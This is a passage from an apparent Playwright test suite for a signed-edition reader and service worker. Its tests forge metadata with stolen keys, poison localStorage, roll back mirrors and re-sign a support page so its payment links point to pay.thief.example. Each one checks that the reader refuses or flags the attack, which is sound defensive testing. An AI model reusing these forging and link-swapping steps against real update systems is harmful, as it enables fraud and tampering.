  await expect("a browser that cannot check signatures says so, and shows nothing", [mirror], { shown: false, text: "", until: /This browser cannot check signatures here/ }, { before: () => Object.defineProperty(Crypto.prototype, "subtle", { get() {} }) });
  const evil = signed({ ...rootOf({ version: 2, root: ["x", "y"].map(keyOf), online: [thief] }) }, ["x", "y"].map(keyOf)), name = JSON.parse(ROOT).signatures[0].sig;
  const poison = forge(robbed, { version: 9, key: thief, bins: [thief] });
  const memory = JSON.stringify({ roots: [JSON.parse(evil)], timestamp: JSON.parse(poison.get("metadata/timestamp.json")), snapshot: JSON.parse(poison.get("metadata/9.snapshot.json")), added: [] });
  const victim = await open([mirror], { context: await (async () => { const context = await chromium.newContext({ locale: "en-GB" }); await context.addInitScript(([name, memory]) => localStorage.setItem(name, memory), [name, memory]); return context; })() });
  const result = await told(victim);
  ok(CHECKED.test(result.state) && result.text.includes("SECOND EDITION"), "a memory that somebody else wrote is checked, and dropped", JSON.stringify([result.state, result.list]));
  await close(victim);
  const all = await open([]), field = all.locator("#add input");
  ok(await all.evaluate(() => document.getElementById("panel").open) && /Add a mirror/.test((await told(all)).words), "without a mirror the reader says what can be done, and opens the list");
  all.allowed.push(mirror.base);
  await field.fill(mirror.base.slice(0, -1));
  await all.press("#add input", "Enter");
  await all.waitForFunction(() => document.getElementById("page").contentDocument?.body?.textContent.includes("SECOND EDITION"), null, { timeout: 8000 }).catch(() => {});
  ok((await told(all)).text.includes("SECOND EDITION"), "a mirror’s address can be added", JSON.stringify(await told(all)));
  ok(await all.locator("#named option").count() === 1, "the edition’s own mirrors are proposed, and not asked");
  await all.reload();
  await all.waitForFunction(() => document.getElementById("page").contentDocument?.body?.textContent.includes("SECOND EDITION"), null, { timeout: 8000 }).catch(() => {});
  ok((await told(all)).text.includes("SECOND EDITION"), "and it is remembered in the tab");
  await close(all);
}

// ---- A folder ----
{
  const stick = (name, content) => {
    const base = join(temporary(), name);
    for (const [path, bytes] of content) if (!path.startsWith("targets/")) { mkdirSync(dirname(join(base, path)), { recursive: true }); writeFileSync(join(base, path), bytes); }
    return base;
  };
  for (const from of ["file", "http"]) {
    const page = await open([], { from });
    await page.setInputFiles("#folder", stick("stick", V2));
    await page.waitForFunction(() => document.getElementById("page").contentDocument?.body?.textContent.includes("SECOND EDITION"), null, { timeout: 10_000 }).catch(() => {});
    const result = await told(page);
    ok(CHECKED.test(result.state) && result.text.includes("SECOND EDITION"), `${from}: an edition is read from a folder`, JSON.stringify([result.state, result.list, result.words, page.errors]));
    await close(page);
  }
  const page = await open([]);
  await page.setInputFiles("#folder", stick("altered", new Map([...V2].map(([path, bytes]) => [path, tampered(path, bytes)]))));
  await page.waitForFunction(() => /altered/.test(document.getElementById("list").textContent + document.getElementById("words").textContent), null, { timeout: 10_000 }).catch(() => {});
  ok(!(await told(page)).text.includes("SECOND"), "an altered folder is refused", JSON.stringify(await told(page)));
  await close(page);
}

// ---- The program's own edition ----
const { EDITION, ROOT: ROOT_FILE, KEYS } = process.env, rootFile = ROOT_FILE ?? (KEYS && join(KEYS, "root.json"));
if (!EDITION || !existsSync(join(folder, "metadata/timestamp.json")) || !rootFile) console.log("SKIPPED: the program’s own edition is not read: EDITION is not signed, or ROOT is not named");
else {
  const program = new Map(files(plain).map((path) => [path, readFileSync(join(plain, path))]));
  for (const path of files(join(folder, "metadata"))) program.set(`metadata/${path}`, readFileSync(join(folder, "metadata", path)));
  for (const [path, bytes] of [...program]) if (!path.startsWith("metadata/")) program.set(address(path, sha(bytes)), bytes);
  if (program.has("reader.html")) {
    // The press puts the file together itself: its policy must name the very script that stands in it.
    const context = await chromium.newContext(), own = await context.newPage();
    await context.route(/^https?:/, (route) => route.abort());
    await own.goto(pathToFileURL(join(plain, "reader.html")).href);
    ok(await own.textContent("#name"), "the reader.html that the program printed runs its script", "the name is empty: the policy’s hash is not the script’s");
    await context.close();
  }
  const root = readFileSync(rootFile), good = await serve(program), page = await open([dead, good], { root });
  if (await page.isVisible("#go")) await page.click("#go");
  await settled(page);
  const result = await told(page);
  ok(result.shown && result.text.length > 1000, "the program’s edition is read", JSON.stringify([result.state, result.list, result.words]));
  await close(page);
  await expect("altered, it is refused", [await serve(program, { alter: tampered })], { shown: false, text: "" }, { root });
  if (!KEYS || !existsSync(join(KEYS, "online/bins.json"))) console.log("SKIPPED: the program’s online keys are not robbed: KEYS is not named");
  else {
    const [stampKey, snapshotKey, binKey] = ["timestamp", "snapshot", "bins"].map((name) => fromSeed(Buffer.from(JSON.parse(readFileSync(join(KEYS, `online/${name}.json`))).keyval.private, "hex")));
    const stamp = JSON.parse(program.get("metadata/timestamp.json")).signed, snapshot = JSON.parse(program.get(`metadata/${stamp.meta["snapshot.json"].version}.snapshot.json`)).signed, robbery = new Map(program);
    const put = (path, text) => {
      const bytes = Buffer.from(text), number = parseInt(sha(path).slice(0, 3), 16) >> 2, name = `bin-${number.toString(16).padStart(3, "0")}`, version = snapshot.meta[`${name}.json`].version, bin = JSON.parse(program.get(`metadata/${version}.${name}.json`)).signed;
      bin.targets[path] = { ...bin.targets[path], hashes: { sha256: sha(bytes) }, length: bytes.length };
      bin.version = snapshot.meta[`${name}.json`].version = version + 1;
      robbery.set(`metadata/${version + 1}.${name}.json`, signed(bin, [binKey])).set(path, bytes).set(address(path, sha(bytes)), bytes);
    };
    put(SUPPORT, program.get(SUPPORT).toString().replaceAll("https://pay.lantern.example/", "https://pay.thief.example/"));
    put("outside.json", JSON.stringify({ addresses: ["https://pay.thief.example/"], format: 1 }));
    snapshot.version++;
    const bytes = signed(snapshot, [snapshotKey]);
    stamp.version++;
    stamp.meta["snapshot.json"] = { hashes: { sha256: sha(bytes) }, length: bytes.length, version: snapshot.version };
    robbery.set(`metadata/${snapshot.version}.snapshot.json`, bytes).set("metadata/timestamp.json", signed(stamp, [stampKey]));
    robbery.delete(address("outside.json", sha(program.get("outside.json"))));
    const both = await serve(merged(robbery, new Map([[address("outside.json", sha(program.get("outside.json"))), program.get("outside.json")]])));
    const page = await open([both], { root, hash: `#${SUPPORT}` });
    if (await page.isVisible("#go")) { await page.click("#go"); await settled(page); }
    const anchors = () => page.evaluate(() => [...document.getElementById("page").contentDocument.querySelectorAll("a")].map((one) => [one.getAttribute("href"), one.textContent]));
    const all = await anchors();
    ok(all.filter(([, text]) => text.includes("⚠")).length > 5 && !all.some(([href]) => /thief/.test(href)), "with the program’s online keys a thief changes the support page and outside.json: its links are marked", JSON.stringify(all.slice(0, 30)));
    await close(page);
    await expect("and outside.json itself is refused", [await serve(robbery)], { list: /outside\.json: altered/ }, { root });
  }
  console.log("SKIPPED: the program’s root is not rotated here; its editors’ keys are under passphrases, and rotation is forged above");
}

// ---- The worker ----
{
  const root = JSON.parse(ROOT), bad = await serve(V1, { alter: tampered }), good = await serve(V1);
  const begin = async (mirrors) => {
    const origin = await serve(new Map()), config = { root, mirrors: mirrors.map((one) => one.base ?? one), name: "The Lantern", home: FRONT, languages: ["en", "ru", "ar"], wait: 1500, fresh: 0 };
    origin.content.set("worker.js", Buffer.from(worker(config))).set("keep.html", Buffer.from(keep(config)));
    const context = await chromium.newContext({ locale: "en-GB" }), page = await context.newPage();
    await page.goto(`${origin.base}keep.html`);
    return { origin, context, page };
  };
  const visit = async ({ page, origin }, path) => { const answer = await page.goto(origin.base + path).catch((error) => ({ status: () => 0, text: async () => error.message, headers: () => ({}) })); return { status: answer.status(), text: await answer.text(), edition: decodeURIComponent(answer.headers()["x-edition"] ?? "") }; };
  const here = await begin([dead, bad, good]);
  ok(/Off\. Nothing is kept/.test(await here.page.textContent("#state")), "worker: nothing is kept before it is asked for");
  await here.page.click("#keep");
  await here.page.waitForFunction(() => /^On\./.test(document.getElementById("state").textContent), null, { timeout: 8000 }).catch(() => {});
  ok(/^On\./.test(await here.page.textContent("#state")), "worker: one button turns it on", await here.page.textContent("#state"));
  const article = [...first.keys()].find((path) => /^en\/2026\/11\/[^/]+\.html$/.test(path) && !/index|-full/.test(path));
  let seen = await visit(here, article);
  ok(seen.status === 200 && seen.edition === "fresh" && seen.text === first.get(article).toString(), "worker 1: dead, altering and good mirror: the article comes checked", JSON.stringify([seen.status, seen.edition, seen.text.slice(0, 80)]));
  // The origin has no picture at all.
  await here.page.evaluate(() => document.images[0].scrollIntoView());
  const picture = await here.page.waitForFunction(() => document.images[0].complete && document.images[0].naturalWidth > 1, null, { timeout: 8000 }).then(() => true, () => false);
  ok(picture, "worker: pictures come through it too");
  seen = await visit(here, "en/");
  ok(seen.status === 200 && seen.text === first.get(FRONT).toString(), "worker 2: a folder’s address means its index", JSON.stringify([seen.status, seen.text.slice(0, 80)]));
  ok((await visit(here, "en/nope.html")).status === 404, "worker 3: a page that the edition has not is not found");
  good.content = V2;
  bad.content = V1;
  seen = await visit(here, FRONT);
  ok(seen.text.includes("SECOND EDITION") && seen.edition === "fresh", "worker 5: a new edition is shown", JSON.stringify([seen.status, seen.edition, seen.text.slice(0, 80)]));
  good.content = V1;
  seen = await visit(here, FRONT);
  ok(seen.text.includes("SECOND EDITION") && /^stale.*rolled back|^stale/.test(seen.edition) && seen.text.includes('role="status"'), "worker 6: a mirror that went back: the kept page stays, and says it is old", JSON.stringify([seen.status, seen.edition, seen.text.slice(0, 80)]));
  seen = await visit(here, "en/about.html");
  ok(seen.status === 200 || seen.status === 502, `worker 7: a page that was not kept is refused, or comes under the newer metadata: ${seen.status} ${seen.edition}`);
  ok(seen.status !== 200 || seen.text.includes("<title>"), "worker 7: and is whole");
  const turned = forge(third, { version: 3, key: fresh, bins: [fresh, live], roots: [ROOT, rotated(editors.slice(1))] });
  good.content = turned;
  seen = await visit(here, FRONT);
  ok(seen.text.includes("THIRD EDITION") && seen.edition === "fresh", "worker 8: root rotated by two of three: followed", JSON.stringify([seen.status, seen.edition, seen.text.slice(0, 80)]));
  good.content = forge(robbed, { version: 9, roots: [ROOT, rotated(editors.slice(1))] });
  seen = await visit(here, FRONT);
  ok(!seen.text.includes("THIEF") && !/^fresh/.test(seen.edition), "worker 9: a seized key after the rotation is refused", JSON.stringify([seen.status, seen.edition, seen.text.slice(0, 80)]));
  good.content = turned;
  here.origin.stop();
  seen = await visit(here, FRONT);
  ok(seen.status === 200 && seen.text.includes("THIRD EDITION"), "worker 10: the origin is gone, a mirror lives", JSON.stringify([seen.status, seen.edition]));
  bad.dead = good.dead = true;
  seen = await visit(here, FRONT);
  ok(seen.status === 200 && /^stale/.test(seen.edition) && seen.text.includes("THIRD EDITION"), "worker 11: all are gone: the kept page, marked", JSON.stringify([seen.status, seen.edition, seen.text.slice(0, 80)]));
  ok((await visit(here, "keep.html")).status === 200, "worker: the page with the buttons is there then too");
  await here.page.click("#wipe");
  await here.page.waitForFunction(() => /wiped/.test(document.getElementById("state").textContent), null, { timeout: 8000 }).catch(() => {});
  const left = await here.page.evaluate(async () => [(await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length]);
  ok(String(left) === "0,0", "worker: one button wipes all of it", String(left));
  // The page is still under the worker, which has been wiped.
  ok(await here.page.evaluate(async () => { await fetch("en/support.html").catch(() => {}); return (await caches.keys()).length; }) === 0, "worker: after the wiping nothing is kept again");
  await here.context.close();
  bad.dead = good.dead = false;
  bad.content = V1;
  const lone = await begin([bad]);
  await lone.page.click("#keep");
  await lone.page.waitForFunction(() => /^On\./.test(document.getElementById("state").textContent), null, { timeout: 8000 }).catch(() => {});
  seen = await visit(lone, FRONT);
  ok(seen.status === 502 && /altered/.test(seen.text), "worker 4: only an altering mirror: refused", JSON.stringify([seen.status, seen.text.slice(0, 120)]));
  await lone.context.close();
  const worn = await begin([await serve(forge(second, { version: 2, until: { timestamp: day(-3) } }))]);
  await worn.page.click("#keep");
  await worn.page.waitForFunction(() => /^On\./.test(document.getElementById("state").textContent), null, { timeout: 8000 }).catch(() => {});
  seen = await visit(worn, FRONT);
  ok(seen.status === 200 && /^late/.test(seen.edition) && /Authentic, but late/.test(seen.text), "worker: an expired edition is shown, and says so", JSON.stringify([seen.status, seen.edition]));
  // Not kept: nothing of the pages lies on the device.
  await worn.page.evaluate(async () => { const { port1, port2 } = new MessageChannel(); const done = new Promise((go) => { port1.onmessage = go; }); navigator.serviceWorker.controller.postMessage({ keep: false }, [port2]); await done; });
  await visit(worn, SUPPORT);
  ok(!(await worn.page.evaluate(() => caches.keys())).includes("edition-pages"), "worker: without the wish nothing is kept");
  await worn.context.close();
}

// ---- Looks and access ----
{
  const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8"), take = process.env.TAKE;
  const good = await serve(V2), bad = await serve(V2, { alter: tampered }), gone = await serve(forge(second, { version: 2, until: { timestamp: day(-3) } })), twin = await serve(forge(third, { version: 2, until: { snapshot: day(6) } }));
  if (take) mkdirSync(take, { recursive: true });
  for (const colorScheme of ["light", "dark"]) for (const locale of ["en-GB", "ar"]) for (const [size, viewport] of [["phone", { width: 390, height: 844 }], ["desktop", { width: 1280, height: 860 }]]) for (const [what, mirrors] of [["read", [dead, bad, good]], ["late", [gone]], ["alarm", [good, twin]], ["none", []]]) {
    const page = await open(mirrors, { locale, options: { viewport, colorScheme } }), name = `${what}-${size}-${colorScheme}-${locale.slice(0, 2)}`;
    await page.waitForTimeout(take ? 500 : 0);
    if (take) await page.screenshot({ path: join(take, `${name}.png`) });
    if (what !== "none") await page.click("#panel summary");
    if (take && what === "read") await page.screenshot({ path: join(take, `${name}-open.png`) });
    const wide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
    const faults = size === "phone" ? await page.evaluate(async (axe) => { (0, eval)(axe); return (await self.axe.run(document, { iframes: false })).violations.map((one) => `${one.id}: ${one.nodes.map((node) => node.html.slice(0, 90)).join(" ")}`); }, axe).catch((error) => [error.message.split("\n")[0]]) : [];
    ok(!wide && !faults.length, `${name}: nothing is too wide, axe finds no fault`, `${wide ? "too wide " : ""}${faults.join("; ")}`);
    await close(page);
  }
}
// Chromium itself asks its maker for updates.
const asked = stranger.asked.filter(({ path }) => !path.startsWith("service/update2"));
ok(!asked.length, "no server but the mirrors was reached", asked.map(({ path }) => path).join());
none(strangers, "no request went to anybody but the mirrors that were named");
counts[strangers.length ? "failed" : "passed"]++;
const bytes = reader({ root: JSON.parse(ROOT), mirrors: [], name: "", home: FRONT, languages: [] }).length - JSON.stringify({ root: JSON.parse(ROOT), mirrors: [], name: "", home: FRONT, languages: [] }).length;
console.log(`     reader.html without its settings: ${bytes} characters`);
await chromium.close();
console.log(`reader: ${counts.passed} passed, ${counts.failed} failed`);
process.exit(counts.failed ? 1 : 0);
